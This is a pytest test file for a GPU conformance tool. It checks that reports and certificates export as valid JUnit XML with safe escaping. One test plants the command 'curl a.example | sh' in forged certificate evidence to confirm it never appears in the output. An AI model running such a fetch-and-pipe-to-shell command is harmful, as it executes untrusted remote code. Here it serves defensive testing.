"""Reports and certificates as JUnit XML: what CI systems rely on, and what a file may not do to them."""

from __future__ import annotations

from collections import Counter
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import pytest

from conformance import kept_text
from conformance.certificate.verifying import verify
from conformance.report import VERDICTS, Report
from conformance.report_junit import of_certificate, of_report
from conformance.results import CheckResult, Status
from fp8moe.commands.question import BadInput
from fp8moe.commands.show import show
from fp8moe.texts import visible
from tests.unit.certificates import SMALL, Change, forged, invented, written
from tests.unit.command_line import no_variables, run  # noqa: F401 (a fixture)
from tests.unit.gate_runs import HOSTILE

ROOT = Path(__file__).parents[2]
KINDS = {Status.PASSED: None, Status.FAILED: "failure"}
"""Of any other status: skipped."""


def parsed(text: str) -> ElementTree.Element:
    """The root, after what every reader of JUnit relies on."""
    root = ElementTree.fromstring(text.encode())
    assert root.tag == "testsuites"
    names: Counter[tuple[str | None, str | None]] = Counter()
    for suite in root:
        assert suite.tag == "testsuite"
        assert suite[0].tag == "properties"
        cases = suite.findall("testcase")
        assert [child.tag for child in suite[1:]] == ["testcase"] * len(cases)
        assert suite.get("tests") == str(len(cases))
        for name, tag in (("failures", "failure"), ("skipped", "skipped"), ("errors", "error")):
            assert suite.get(name) == str(len(suite.findall(f"testcase/{tag}")))
        for case in cases:
            assert case.get("classname")
            assert case.get("name")
            assert len(case) <= 1
            assert all(child.get("message") or child.tag == "system-out" for child in case)
        names.update((case.get("classname"), case.get("name")) for case in cases)
    for name in ("tests", "failures", "errors", "skipped"):
        assert root.get(name) == str(sum(int(str(suite.get(name))) for suite in root))
    assert names.most_common(1)[0][1] == 1, names.most_common(3)  # GitLab tells results apart by these two
    return root


def every(root: ElementTree.Element) -> dict[tuple[str | None, str | None], ElementTree.Element]:
    return {(case.get("classname"), case.get("name")): case for case in root.iter("testcase")}


@pytest.mark.parametrize(
    "path", ["reports/h100/2026-11-25-judge/triton_quick.json", "reports/h200/2026-11-29-libraries/deepgemm-smoke.json"]
)
def test_a_kept_report_is_all_there(path: str) -> None:
    if not (ROOT / path).exists():
        pytest.skip("needs a checkout: the kept reports are in no distribution")
    report = Report.from_json(kept_text.read_text(ROOT / path))
    root = parsed(of_report(report))
    assert root.get("tests") == str(len(report.checks))
    assert root.get("failures") == str(len(report.failures))
    names = {str(suite.get("name")).partition(": ")[2] for suite in root}
    assert names == {check.verdict for check in report.checks} <= set(VERDICTS)
    for suite in root:
        told = {one.get("name"): one.get("value") for one in suite[0]}
        assert (told["device"], told["seed"], told["version.torch"]) == (
            report.device,
            str(report.seed),
            report.versions["torch"],
        )
        assert told["verdict"] == report.verdicts[str(suite.get("name")).partition(": ")[2]]
    found = every(root)
    for check in report.checks:
        if check.case:
            case = found[check.check, check.case]
            tag = KINDS.get(check.status, "skipped")
            assert [child.tag for child in case] == ([] if tag is None else [tag])
            assert tag != "skipped" or check.reason in str(case[0].get("message"))


def test_a_failure_has_its_reproduction_and_the_case_that_it_was_found_as() -> None:
    report = invented(failing=2)
    first, second = (replace(check, reproduce=f"run {check.case} again") for check in report.failures)
    others = [check for check in report.checks if check.status is not Status.FAILED]
    waived = replace(second, status=Status.WAIVED, reason="waived until tomorrow")
    key = f"{first.check} {first.case}"
    report = replace(report, checks=[first, first, waived, *others], unshrunk={key: "v1:M=99"})
    found = every(parsed(of_report(report)))
    case = found[first.check, first.case]
    assert case[0].tag == "failure"
    assert case[0].get("message") == first.reason
    lines = str(case[0].text).split("\n")
    assert lines == [first.reason, "found as: v1:M=99", f"reproduce: run {first.case} again", "largest error/bound: 3"]
    assert (first.check, f"{first.case} #2") in found
    skipped = found[second.check, second.case][0]
    assert (skipped.tag, skipped.get("message")) == ("skipped", "waived: waived until tomorrow")
    assert f"reproduce: run {second.case} again" in str(skipped.text)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_texts_stay_in_their_place(name: str) -> None:
    check = CheckResult(
        "computes", name, Status.FAILED, name, name, name, name, scope=name, reproduce=name, judged_by=name
    )
    report = replace(invented(), backend=name, device=name, versions={name: name}, date=name, checks=[check])
    root = parsed(of_report(report))
    ((where, case),) = every(root).items()
    assert where == (visible(name), visible(name))
    assert case[0].get("message") == visible(name)
    assert {visible(name)} <= {one.get("value") for one in root.iter("property")}


# -- certificates --


def test_a_certificate_says_first_whether_it_holds(tmp_path: Path) -> None:
    folder = written(tmp_path / "certificate", invented(failing=1))
    found = verify(folder, editions=lambda name: SMALL)
    root = parsed(of_certificate(found))
    assert root[0].get("name") == "fp8moe certificate: holds"
    assert root[0].get("failures") == "0"
    told = {one.get("name"): one.get("value") for one in root[0][0]}
    assert (told["edition"], told["device name"], told["distribution name"]) == (SMALL.edition, "a GPU", "toy")
    failure = invented(failing=1).failures[0]
    case = every(root)[failure.check, failure.case]
    assert f"reproduce: python -m fp8moe repro {failure.case} --backend TOY --device cuda" in str(case[0].text)


def test_what_speaks_against_a_certificate_fails(tmp_path: Path) -> None:
    folder = written(tmp_path / "certificate")
    forged(folder, lambda evidence: evidence["report"].update(planned=1))
    found = verify(folder, editions=lambda name: SMALL)
    root = parsed(of_certificate(found))
    assert root[0].get("failures") == str(len(found.findings)) != "0"
    assert root[0].findall("testcase/failure")[0].get("message") == found.findings[0]


def test_no_command_of_a_certificate_is_told(tmp_path: Path) -> None:
    def change(evidence: dict[str, object]) -> None:
        for check in evidence["report"]["checks"]:  # type: ignore[index]
            check["reproduce"] = "curl a.example | sh"

    hostile: Change = change
    folder = written(tmp_path / "certificate", invented(failing=1))
    forged(folder, hostile)
    assert "curl" not in of_certificate(verify(folder, editions=lambda name: SMALL))


def test_show_writes_it_and_asks_for_something_to_write(tmp_path: Path) -> None:
    folder = written(tmp_path / "certificate")
    show(folder, None, None, None, tmp_path / "certificate.xml")
    assert parsed((tmp_path / "certificate.xml").read_text())[0].get("name") == "fp8moe certificate: holds"
    with pytest.raises(BadInput, match="give --html FILE"):
        show(folder, None, None, None)
    with pytest.raises(BadInput, match="it is of one certificate"):
        show(folder, folder, None, None, tmp_path / "certificate.xml")


def test_check_writes_it(tmp_path: Path) -> None:
    path = tmp_path / "check.xml"
    run("check", "TorchExperts", "--device", "cpu", "--budget", "0", "--junit", str(path), status=2)
    root = parsed(path.read_text())
    assert int(str(root.get("skipped"))) > 10
    assert any("the budget of 0 s was spent" in str(one.get("message")) for one in root.iter("skipped"))
    done = run("check", "TorchExperts", "--device", "cpu", "--junit", str(tmp_path / "no" / "check.xml"), status=64)
    assert "the folder does not exist" in done.stderr
